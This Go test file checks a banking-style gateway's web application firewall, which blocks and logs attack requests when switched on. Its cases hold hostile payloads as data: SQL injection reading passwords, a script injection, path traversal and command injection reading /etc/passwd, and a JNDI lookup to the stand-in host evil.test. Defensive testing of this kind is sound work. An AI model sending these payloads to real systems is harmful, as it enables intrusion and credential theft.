package gateway_test

import (
	"errors"
	"fmt"
	"net/http"
	"path/filepath"
	"strings"
	"testing"

	"gorm.io/gorm"

	"keyladder/backend/gateway"
	"keyladder/backend/guard"
	"keyladder/internal/store"
	"keyladder/internal/testenv"
	"keyladder/stages/catalog"
)

// TestWAF: what looks like an attack is refused where the firewall is on, and on record with the rule
// that has found it. A call that is well formed is none to it, whoever has stolen what it carries.
func TestWAF(t *testing.T) {
	t.Parallel()
	w := start(t, nil)
	transfer := func(body string) *http.Request {
		r := w.request(http.MethodPost, "/v1/transfers", body)
		r.Header.Set("Content-Type", "application/json")
		return r
	}
	calls := map[string]struct {
		r    func() *http.Request
		rule string // empty: it passes
	}{
		"a genuine call": {func() *http.Request { return w.request(http.MethodGet, "/v1/accounts", "") }, ""},
		"a genuine transfer": {func() *http.Request {
			return transfer(`{"from":"HB-1001","to":"HB-2001","amount":1200,"reference":"Rent, November"}`)
		}, ""},
		"a stolen call": {func() *http.Request {
			return transfer(`{"from":"HB-1001","to":"HB-3001","amount":999999,"reference":"mallory"}`)
		}, ""},
		"SQL in a body": {func() *http.Request {
			return transfer(`{"from":"HB-1001","to":"x' UNION SELECT password FROM users --","amount":1}`)
		}, "942"},
		"SQL in a query":       {func() *http.Request { return w.request(http.MethodGet, "/v1/accounts?id=1%27%20OR%20%271%27=%271", "") }, "942"},
		"a script in a body":   {func() *http.Request { return transfer(`{"reference":"<script>alert(1)</script>"}`) }, "941"},
		"a path to a file":     {func() *http.Request { return w.request(http.MethodGet, "/v1/accounts?file=../../../../etc/passwd", "") }, "930"},
		"a command in a query": {func() *http.Request { return w.request(http.MethodGet, "/v1/accounts?q=;cat%20/etc/passwd", "") }, "932"},
		"a lookup in a field": {func() *http.Request {
			r := w.request(http.MethodGet, "/v1/accounts", "")
			r.Header.Set("Accept-Language", "${jndi:ldap://evil.test/a}")
			return r
		}, "944"},
		"a body that is no JSON": {func() *http.Request { return transfer(`{"from":`) }, "200002"},
		"a body of a form's kind": {func() *http.Request {
			r := transfer("a=b")
			r.Header.Set("Content-Type", "text/plain; charset=utf-7")
			return r
		}, "920"},
	}
	for name, call := range calls {
		if answer := w.do(call.r()); answer.Code != http.StatusOK {
			t.Errorf("%s, while it is off: %d %s", name, answer.Code, answer.Body)
		}
	}
	if err := w.gateway.WAF().Switch(t.Context(), true); err != nil {
		t.Fatal(err)
	}
	if state := w.gateway.WAF().State(); !state.On || state.Since == nil || state.Rules < 100 || state.Checked != 0 {
		t.Errorf("%+v", state)
	}
	for name, call := range calls {
		answer := w.do(call.r())
		if call.rule == "" {
			if answer.Code != http.StatusOK {
				t.Errorf("%s: %d %s", name, answer.Code, answer.Body)
			}
			continue
		}
		records := w.log.After(0)
		verdict := records[len(records)-1].Verdict
		if answer.Code != http.StatusForbidden || verdict == nil || verdict.Check != catalog.CheckWAF || !strings.Contains(verdict.Reason, call.rule) {
			t.Errorf("%s: %d %s; %+v", name, answer.Code, answer.Body, verdict)
		}
	}
	if err := w.gateway.WAF().Switch(t.Context(), false); err != nil {
		t.Fatal(err)
	}
	for name, call := range calls {
		if answer := w.do(call.r()); answer.Code != http.StatusOK {
			t.Errorf("%s, off again: %d %s", name, answer.Code, answer.Body)
		}
	}
}

// TestWAFStaysOn in the next program on the same database.
func TestWAFStaysOn(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "gateway.db")
	for _, on := range []bool{false, true, true} { // as it is found
		db := testenv.Must[*gorm.DB](t)(store.Open(path, gateway.Models()...))
		w := start(t, func(c *gateway.Config, _ *guard.Config) { c.DB = db })
		if got := w.gateway.WAF().State().On; got != on {
			t.Errorf("it is on: %v, want %v", got, on)
		}
		if err := w.gateway.WAF().Switch(t.Context(), true); err != nil {
			t.Fatal(err)
		}
		if err := store.Close(db); err != nil {
			t.Fatal(err)
		}
	}
}

// BenchmarkWAF is what it costs to switch it on, and to have it look at a call.
func BenchmarkWAF(b *testing.B) {
	w := start(b, nil)
	b.Run("switch on", func(b *testing.B) {
		for b.Loop() {
			if err := errors.Join(w.gateway.WAF().Switch(b.Context(), false), w.gateway.WAF().Switch(b.Context(), true)); err != nil {
				b.Fatal(err)
			}
		}
	})
	for _, on := range []bool{false, true} {
		if err := w.gateway.WAF().Switch(b.Context(), on); err != nil {
			b.Fatal(err)
		}
		b.Run(fmt.Sprintf("call, on=%v", on), func(b *testing.B) {
			for b.Loop() {
				r := w.request(http.MethodPost, "/v1/transfers", `{"from":"HB-1001","to":"HB-2001","amount":1200}`)
				r.Header.Set("Content-Type", "application/json")
				if answer := w.do(r); answer.Code != http.StatusOK {
					b.Fatal(answer.Code, answer.Body)
				}
			}
		})
	}
}
